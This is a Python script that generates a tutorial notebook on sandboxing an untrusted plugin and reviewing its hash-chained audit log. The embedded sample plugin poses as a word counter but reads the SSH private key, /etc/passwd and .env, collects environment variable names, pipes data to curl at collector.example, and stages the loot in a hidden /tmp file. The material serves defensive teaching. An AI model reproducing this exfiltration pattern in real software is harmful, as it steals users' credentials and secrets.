"""Writes notebooks/07-investigating-an-untrusted-module.ipynb (then execute it to store outputs)."""

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

RUN = {"tags": ["nbval-ignore-output"]}  # timings, run ids: the cells after them check the stable facts

PLUGIN = '''"""wordcount 1.2: counts the words of a report. (It also does a few things it does not mention.)"""
import json
import os

report = open("/docs/readme.txt").read()
loot = {}
for path in ("/home/user/.ssh/id_rsa", "/etc/passwd", "/.env"):
    try:
        loot[path] = open(path).read()[:64]
    except OSError as exc:
        loot[path] = type(exc).__name__
loot["environment"] = sorted(os.environ)
try:
    import subprocess
    subprocess.run(["curl", "-d@-", "https://collector.example/upload"])
except Exception as exc:
    loot["upload"] = type(exc).__name__
try:
    with open("/tmp/.wc-cache", "w") as staged:  # left for a later run to pick up
        json.dump(loot, staged)
except OSError as exc:
    loot["stage"] = type(exc).__name__
result = {"words": len(report.split())}
'''

cells = [
    new_markdown_cell(
        "# 07 · Investigating an untrusted module\n\n"
        "Someone hands you a plugin, `wordcount`, that promises to count the words of a report. You do not "
        "trust it. This notebook does what a reviewer would:\n\n"
        "1. run it in **learn mode**: everything allowed, everything recorded;\n"
        "2. read the **suggested policy**, the smallest one that lets that run succeed, and question it;\n"
        "3. run it under the suggestion, then under a **tight policy** written by hand;\n"
        "4. go through its **audit trail** step by step: what it tried, in what order, what was refused, "
        "and whether the record itself can be trusted (the hash chain).\n\n"
        "(Once the module catalog in `extensions/` exists, the plugin will live there; until then it is "
        "written below.)"),
    new_code_cell("%load_ext workbench\n"
                  "import pathlib, tempfile\n"
                  "folder = pathlib.Path(tempfile.mkdtemp(prefix='investigation-'))\n"
                  "log_path = folder / 'audit.jsonl'\n"
                  "plugin = folder / 'wordcount.py'\n"
                  f"written = plugin.write_text({PLUGIN!r})"),
    new_markdown_cell("## 1. Learn mode\n\n`--on-violation audit` allows everything the policy would refuse "
                      "and records it. The guest's `/` is the workspace, read-write: learn mode is for a "
                      "throw-away copy, never for data you care about."),
    new_code_cell("%sandbox run {plugin} --root workspace --on-violation audit --audit {log_path} -o learned",
                  metadata=RUN),
    new_code_cell("learned.value, learned.classify().learn_mode, learned.classify().recorded > 0"),
    new_markdown_cell("## 2. The suggested policy, questioned\n\nThe suggestion grants exactly the files the "
                      "run used successfully. Read it before adopting it: a word counter has no business "
                      "writing a hidden file in `/tmp`."),
    new_code_cell("suggested = learned.suggested_policy()\n"
                  "suggested.to_strings()"),
    new_markdown_cell("## 3. Under the suggestion, then under a tight policy\n\nUnder the suggestion the "
                      "reads of secrets are refused (in learn mode they found nothing, so nothing was suggested "
                      "for them), but the staging file is written: the suggestion grants it. The tight policy "
                      "grants what a word counter needs: read the report, a time and a memory limit. Everything "
                      "else is refused and recorded, and the plugin still counts the words."),
    new_code_cell("%sandbox run {plugin} --root workspace --policy suggested --audit {log_path} -o trusting",
                  metadata=RUN),
    new_code_cell("trusting.value, sorted(v.resolved for v in trusting.violations)"),
    new_code_cell("%sandbox_policy tight filesystem:read:/docs/readme.txt time:limit:10s memory:limit:64MB\n"
                  "%sandbox run {plugin} --root workspace --policy tight --audit {log_path} -o tight",
                  metadata=RUN),
    new_code_cell("tight.value, tight.outcome, sorted({(v.kind, v.resolved) for v in tight.violations})"),
    new_markdown_cell("## 4. The audit trail, step by step\n\n`%sandbox_audit` opens on the chain's verdict "
                      "and one row per run (outcome, counts, the most refused targets), then every decision "
                      "with the useful columns first. Filters narrow it: `--run`, `--decision`, `--since`."),
    new_code_cell("%sandbox_audit {log_path}", metadata=RUN),
    new_markdown_cell("**What it tried, in order** (the tight run): every file operation the guest asked for, "
                      "as the sandbox resolved it, and what was decided."),
    new_code_cell("from workbench import AuditLog\n"
                  "from workbench.audit.review import compact, runs, select\n"
                  "records = AuditLog(log_path).frame()\n"
                  "steps = compact(select(records, run=tight.run_id))\n"
                  "[(s.what, s.target, s.decision, s.errno) for s in steps.itertuples()\n"
                  " if s.what.startswith('filesystem/') and s.what != 'filesystem/mount']"),
    new_markdown_cell("**What was refused**, across the three runs: learn mode refused nothing (it records), "
                      "the suggestion refused nothing (it grants what was used), the tight policy refused the "
                      "secrets and the staging file."),
    new_code_cell("summary = runs(records)\n"
                  "list(zip(summary['module'], summary['outcome'], summary['deny'], summary['top denied']))"),
    new_markdown_cell("**The guest's own code is named in every run**: the module hash is the interpreter's "
                      "(the same for every Python run), the source hash is the plugin's."),
    new_code_cell("len(set(summary['module_sha256'])), len(set(summary['source'])), summary['source'][0].split()[0]"),
    new_markdown_cell("**Can the record be trusted?** The log is hash-chained: each record's hash covers the one "
                      "before it. Verification walks the chain; an edited, removed or reordered record breaks it "
                      "(notebook 03 shows a forgery caught)."),
    new_code_cell("check = AuditLog(log_path).verify()\n"
                  "check.ok, check.first_bad is None"),
    new_code_cell("import shutil\nshutil.rmtree(folder)"),
]

nb = new_notebook(cells=cells)
nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
nbformat.write(nb, "notebooks/07-investigating-an-untrusted-module.ipynb")
